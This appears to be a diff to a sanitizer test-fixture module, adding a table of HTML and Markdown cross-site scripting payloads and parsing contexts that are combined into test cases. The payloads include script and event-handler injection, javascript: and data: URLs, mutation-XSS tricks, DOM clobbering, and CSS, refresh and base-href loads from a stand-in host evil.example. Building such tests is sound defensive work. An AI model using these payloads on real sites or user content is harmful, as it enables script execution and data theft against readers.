@@ -1,4 +1,4 @@
-"""Markdown that tries to execute a script in the browser of a reader, by kind.
+"""Markdown and HTML that try to execute a script in the browser of a reader, by kind.
 
 An attack that succeeds calls `pwn()`, or requests something other than an image from another host.
 """
@@ -535,6 +535,43 @@ DEEP = (
     "<p onclick=pwn() title=" + "&quot;" * 2_000 + ">a</p>",
 )
 
+PAYLOADS = (
+    "<script>pwn()</script>",
+    "<img src=x onerror=pwn()>",
+    "<svg onload=pwn()><animate onbegin=pwn() attributeName=x dur=1s></svg>",
+    '<a href="javascript:pwn()">a</a>',
+    '<a href="&#1;java&#9;script&colon;pwn()">a</a>',
+    '<a href="data:text/html,<script>pwn()</script>">a</a>',
+    '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
+    "<form action=https://evil.example id=x><input name=attributes onfocus=pwn() autofocus></form>",
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=pwn()>">',
+    "<svg><style><img src=x onerror=pwn()></style></svg>",
+    "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/a)}</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
+    '<base href="https://evil.example/"><script src=x.js></script>',
+    "<a id=x name=y>a</a><a id=x name=z>b</a><img name=createElement><form name=cookie></form>",
+    '<object data="data:text/html,<script>pwn()</script>"></object><embed src="javascript:pwn()">',
+    "<details open ontoggle=pwn()><summary>a</summary></details>",
+    "<video src=https://evil.example/v onerror=pwn() autoplay><source onerror=pwn()></video>",
+    '<p style="animation:x;background:url(https://evil.example/b)" onanimationstart=pwn()>a</p>',
+    '<noscript><p title="</noscript><img src=x onerror=pwn()>"></noscript>',
+)
+# A payload stands in place of the sign.
+CONTEXTS = (
+    "@",
+    "<div><p>@</p></div>",
+    "<table><tr><td>@</td></tr></table>",
+    "<table>@",
+    "<template>@</template>",
+    "<svg><foreignObject>@</foreignObject></svg>",
+    "<math><annotation-xml encoding=text/html>@</annotation-xml></math>",
+    "<select><option>@</select>",
+    "<!-->@-->",
+    "<svg><![CDATA[>@]]></svg>",
+)
+COMBINED = tuple(context.replace("@", payload) for context in CONTEXTS for payload in PAYLOADS)
+
 ATTACKS = {
     "scripts": SCRIPTS,
     "event handlers": EVENT_HANDLERS,
@@ -549,4 +586,5 @@ ATTACKS = {
     "code": CODE,
     "parts of Markdown": MARKDOWN_PARTS,
     "deep": DEEP,
+    "combined": COMBINED,
 }
